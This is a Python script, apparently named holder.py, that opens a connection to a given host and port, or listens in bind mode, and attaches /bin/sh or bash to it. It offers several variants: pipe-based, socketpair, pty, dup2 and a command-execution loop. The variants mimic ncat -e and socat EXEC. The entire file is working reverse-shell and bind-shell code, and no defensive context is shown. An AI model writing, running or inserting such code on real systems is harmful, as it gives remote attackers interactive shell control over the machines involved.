"""Holds a connection and runs a shell on it, in the way asked for: what ncat, socat and others do.

holder.py HOW HOST PORT. HOW: pipes (ncat -e), unix (socat EXEC), pty (socat EXEC,pty), dup2 and
dup2-pty (the usual lines of Python), loop (recv and subprocess.run), bind-pipes and bind (the same
after accept).
"""

from __future__ import annotations

import os
import pty
import select
import socket
import subprocess
import sys


def main(how: str, host: str, port: int) -> None:
    if how.startswith("bind"):
        server = socket.create_server(("", port))
        call = socket.create_connection((host, 4003))
        connection, _ = server.accept()
    else:
        connection = socket.create_connection((host, port))
    if how in ("dup2", "dup2-pty", "bind"):
        for fd in (0, 1, 2):
            os.dup2(connection.fileno(), fd)
        if how == "dup2-pty":
            pty.spawn("/bin/sh")
        else:
            subprocess.run(["/bin/sh", "-i"], check=False)
    elif how == "loop":
        while order := connection.recv(1024).decode():
            if order.strip() == "exit":
                break
            done = subprocess.run(order, shell=True, capture_output=True, check=False)
            connection.sendall(done.stdout + done.stderr or b"\n")
    else:
        relay(connection, how.rpartition("-")[2])
    if how.startswith("bind"):
        call.close()


def relay(connection: socket.socket, how: str) -> None:
    """Copy between the connection and a shell until either ends."""
    if how == "pty":
        pid, end = pty.fork()
        if pid == 0:
            os.execv("/bin/bash", ["/bin/bash", "--norc"])
        into = out = end
    elif how == "unix":
        near, far = socket.socketpair()
        subprocess.Popen(["/bin/sh"], stdin=far.fileno(), stdout=far.fileno(), stderr=far.fileno())
        far.close()
        into = out = near.detach()
    else:
        shell = subprocess.Popen(
            ["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0
        )
        assert shell.stdin is not None
        assert shell.stdout is not None
        into, out = shell.stdin.fileno(), shell.stdout.fileno()
    while True:
        ready, _, _ = select.select([connection.fileno(), out], [], [])
        if connection.fileno() in ready:
            data = connection.recv(4096)
            if not data:
                return
            os.write(into, data)
        if out in ready:
            try:
                data = os.read(out, 4096)
            except OSError:  # a terminal whose other end is gone
                return
            if not data:
                return
            connection.sendall(data)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
